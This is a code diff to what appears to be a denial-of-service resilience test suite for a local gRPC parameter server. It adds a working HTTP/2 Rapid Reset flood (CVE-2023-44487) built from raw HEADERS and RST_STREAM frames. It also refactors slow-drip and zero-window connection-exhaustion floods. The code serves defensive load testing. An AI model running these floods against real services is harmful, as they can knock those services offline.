@@ -5,6 +5,7 @@ They are started in a thread while somebody watches a well-behaved client: ``Flo
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import socket
 import struct
@@ -24,6 +25,7 @@ from ps_protocol.v1 import batch_pb2, data_pb2, membership_pb2
 TIME_S: Final = 5.0
 _CALL_S: Final = 60.0
 _SETTLE_S: Final = 3.0
+_CALLS_OF_CONNECTION: Final = 50  # a ps takes no more than 100 at a time
 _LOCAL: Final = ("127.0.0.1:", "localhost:", "[::1]:")
 _OPTIONS: Final = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
 
@@ -92,9 +94,11 @@ def silent_streams(
         yield b""
 
     with ExitStack() as stack:
-        channel = stack.enter_context(_channel(address))
-        open_stream: grpc.StreamStreamMultiCallable[bytes, bytes] = channel.stream_stream(path)
-        calls = [open_stream(nothing(), timeout=_CALL_S) for _ in range(number)]
+        calls: list[grpc.Call] = []
+        for start in range(0, number, _CALLS_OF_CONNECTION):
+            channel = stack.enter_context(_channel(address))
+            open_stream: grpc.StreamStreamMultiCallable[bytes, bytes] = channel.stream_stream(path)
+            calls += [open_stream(nothing(), timeout=_CALL_S) for _ in range(min(number - start, _CALLS_OF_CONNECTION))]
         _tell(begun)
         stop.wait(time_s)
         ended = _settled(lambda: sum([not call.is_active() for call in calls]), number)
@@ -109,47 +113,44 @@ def silent_hellos(address: str, *, path: str = HELLO, **options: object) -> int:
     return silent_streams(address, path=path, **options)  # type: ignore[arg-type]  # what a caller gives
 
 
-def dripping_messages(
-    address: str,
-    *,
-    number: int = 140,
-    time_s: float = TIME_S,
-    path: str = EXCHANGE,
-    begun: threading.Event | None = None,
-    stop: threading.Event | None = None,
-) -> int:
+def dripping_messages(address: str, *, path: str = EXCHANGE, **options: object) -> int:
     """Begins messages of 1 MiB and sends a byte of each now and then; returns how many calls the ps has ended."""
-    stop = stop or threading.Event()
-    with ExitStack() as stack:
-        calls = [stack.enter_context(RawCall(address, path)) for _ in range(number)]
-        for call in calls:
-            call.send(struct.pack(">BI", 0, 2**20))
-        _tell(begun)
-        ends_s = time.monotonic() + time_s
-        while time.monotonic() < ends_s and not stop.wait(0.05):
-            for call in calls:
-                call.send(b"x")
-        return _settled(lambda: sum([call.was_ended() for call in calls]), number)
+    return _held_calls(address, path, struct.pack(">BI", 0, 2**20), drop=b"x", **options)  # type: ignore[arg-type]
 
 
-def unread_replies(
+def unread_replies(address: str, *, path: str = LIST_VARIABLES, **options: object) -> int:
+    """Asks, and has no room for the answer (a window of 0 bytes); returns how many calls the ps has ended."""
+    return _held_calls(address, path, struct.pack(">BI", 0, 0), window_bytes=0, **options)  # type: ignore[arg-type]
+
+
+def reset_calls(
     address: str,
     *,
-    number: int = 140,
+    number: int = 1_000_000,
     time_s: float = TIME_S,
-    path: str = LIST_VARIABLES,
     begun: threading.Event | None = None,
     stop: threading.Event | None = None,
 ) -> int:
-    """Asks, and has no room for the answer (a window of 0 bytes); returns how many calls the ps has ended."""
+    """Makes calls on one connection and resets each at once (CVE-2023-44487); returns how many."""
     stop = stop or threading.Event()
-    with ExitStack() as stack:
-        calls = [stack.enter_context(RawCall(address, path, window_bytes=0)) for _ in range(number)]
-        for call in calls:
-            call.send(struct.pack(">BI", 0, 0), ends=True)
-        _tell(begun)
-        stop.wait(time_s)
-        return _settled(lambda: sum([call.was_ended() for call in calls]), number)
+    block, cancel = _call_headers(address, EXCHANGE), struct.pack(">I", 8)
+    ends_s = time.monotonic() + time_s
+    reset = 0
+    while reset < number and time.monotonic() < ends_s and not stop.is_set():
+        with contextlib.suppress(ConnectionError), _connected(address, 65_535) as sock:
+            stream = 1
+            while reset < number and time.monotonic() < ends_s and not stop.is_set():
+                calls = range(stream, stream + 200, 2)
+                sock.sendall(b"".join([_frame(1, 4, each, block) + _frame(3, 0, each, cancel) for each in calls]))
+                reset += len(calls)
+                stream = calls.stop
+                _tell(begun)
+                sock.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    while sock.recv(65_536):
+                        pass
+                sock.settimeout(_CALL_S)
+    return reset
 
 
 def messages_without_meaning(
@@ -230,6 +231,7 @@ FLOODS: Final[dict[str, Callable[[str], int]]] = {
     "140 silent hellos over gRPC": silent_hellos,
     "140 dripping gRPC messages": dripping_messages,
     "140 unread gRPC replies": unread_replies,
+    "gRPC calls that are reset at once": reset_calls,
     "24 gRPC messages of 60 MiB without meaning": messages_without_meaning,
     "3 million operations in a header": many_operations,
     "10,000 hellos": hellos,
@@ -248,25 +250,9 @@ class RawCall:
     """
 
     def __init__(self, address: str, path: str, *, window_bytes: int = 65_535):
-        host, _, port = _checked(address).rpartition(":")
-        self._socket = socket.create_connection((host.strip("[]"), int(port)), timeout=_CALL_S)
+        self._socket = _connected(address, window_bytes)
         self._received = bytearray()
-        headers = {
-            ":method": "POST",
-            ":scheme": "http",
-            ":path": path,
-            ":authority": address,
-            "te": "trailers",
-            "content-type": "application/grpc",
-            "grpc-timeout": f"{_CALL_S:.0f}S",
-        }
-        block = b"".join([b"\0" + _text(name) + _text(value) for name, value in headers.items()])
-        self._socket.sendall(
-            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-            + _frame(4, 0, 0, struct.pack(">HI", 4, window_bytes))
-            + _frame(4, 1, 0, b"")
-            + _frame(1, 4, 1, block)
-        )
+        self._socket.sendall(_frame(1, 4, 1, _call_headers(address, path)))
 
     def __enter__(self) -> Self:
         return self
@@ -295,6 +281,28 @@ class RawCall:
         return True
 
 
+def _connected(address: str, window_bytes: int) -> socket.socket:
+    """A connection that has begun as HTTP/2 does."""
+    host, _, port = _checked(address).rpartition(":")
+    sock = socket.create_connection((host.strip("[]"), int(port)), timeout=_CALL_S)
+    settings = _frame(4, 0, 0, struct.pack(">HI", 4, window_bytes))
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + _frame(4, 1, 0, b""))
+    return sock
+
+
+def _call_headers(address: str, path: str) -> bytes:
+    headers = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": path,
+        ":authority": address,
+        "te": "trailers",
+        "content-type": "application/grpc",
+        "grpc-timeout": f"{_CALL_S:.0f}S",
+    }
+    return b"".join([b"\0" + _text(name) + _text(value) for name, value in headers.items()])
+
+
 def _kinds(data: bytes) -> set[int]:
     """The kinds of the frames in what was received."""
     kinds: set[int] = set()
@@ -311,6 +319,44 @@ def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
 
 def _text(text: str) -> bytes:
     return bytes([len(text)]) + text.encode()
+
+
+def _held_calls(
+    address: str,
+    path: str,
+    first: bytes,
+    *,
+    drop: bytes = b"",
+    window_bytes: int = 65_535,
+    number: int = 140,
+    time_s: float = TIME_S,
+    begun: threading.Event | None = None,
+    stop: threading.Event | None = None,
+) -> int:
+    """Makes calls that each have a connection; returns how many the ps has ended.
+
+    Args:
+        address: Of the ps.
+        path: Of the method.
+        first: What is sent first; all, unless there is a drop.
+        drop: What is sent now and then after that.
+        window_bytes: What the ps may send.
+        number: How many.
+        time_s: For how long.
+        begun: Set when all are there.
+        stop: Ends it earlier.
+    """
+    stop = stop or threading.Event()
+    with ExitStack() as stack:
+        calls = [stack.enter_context(RawCall(address, path, window_bytes=window_bytes)) for _ in range(number)]
+        for call in calls:
+            call.send(first, ends=not drop)
+        _tell(begun)
+        ends_s = time.monotonic() + time_s
+        while time.monotonic() < ends_s and not stop.wait(0.05):
+            for call in calls if drop else ():
+                call.send(drop)
+        return _settled(lambda: sum([call.was_ended() for call in calls]), number)
 
 
 def _refused(
